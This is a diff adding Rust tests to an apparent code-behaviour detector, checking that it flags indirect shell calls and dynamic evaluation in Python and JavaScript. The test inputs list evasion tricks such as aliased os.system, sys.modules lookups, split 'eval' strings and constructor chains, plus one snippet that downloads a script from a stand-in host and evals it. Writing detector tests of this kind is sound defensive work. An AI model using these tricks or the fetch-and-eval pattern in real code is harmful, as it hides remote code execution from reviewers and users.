@@ -111,3 +111,43 @@ fn javascript_environment_reads_and_dumps() {
     assert_eq!(js("eval(x)"), vec![Act::DynamicCode]);
     assert_eq!(js("new Function('return 1')()"), vec![]);
 }
+
+#[test]
+fn indirect_reaches_are_resolved_or_refused() {
+    let shell = |c: &str| vec![Act::Shell(Some(c.into()))];
+    assert_eq!(py("import os\nf = os.system\nf('a')"), shell("a"));
+    assert_eq!(py("import sys\nsys.modules['os'].system('b')"), shell("b"));
+    assert_eq!(
+        py("import os\nvars(os)['system']('c')"),
+        vec![Act::DynamicCode]
+    );
+    assert_eq!(
+        py("import os\nos.__dict__['system']('d')"),
+        vec![Act::DynamicCode]
+    );
+    assert_eq!(
+        py("list(map(__import__('os').system, ['e']))"),
+        vec![Act::Shell(None)]
+    );
+    assert_eq!(js("globalThis['ev' + 'al'](x)"), vec![Act::DynamicCode]);
+    assert_eq!(
+        js("process.mainModule.require('child_process').execSync('f')"),
+        shell("f")
+    );
+    assert_eq!(
+        js("const r = require; r('child_process').exec('g')"),
+        shell("g")
+    );
+    assert_eq!(
+        js("[].constructor.constructor(x)()"),
+        vec![Act::DynamicCode]
+    );
+}
+
+#[test]
+fn javascript_download_then_eval() {
+    let acts = js(
+        "require('https').get('https://e.example/p.js', r => { let d=''; r.on('data', c => d+=c); r.on('end', () => eval(d)) })",
+    );
+    assert_eq!(acts, vec![Act::Network, Act::DynamicCode]);
+}
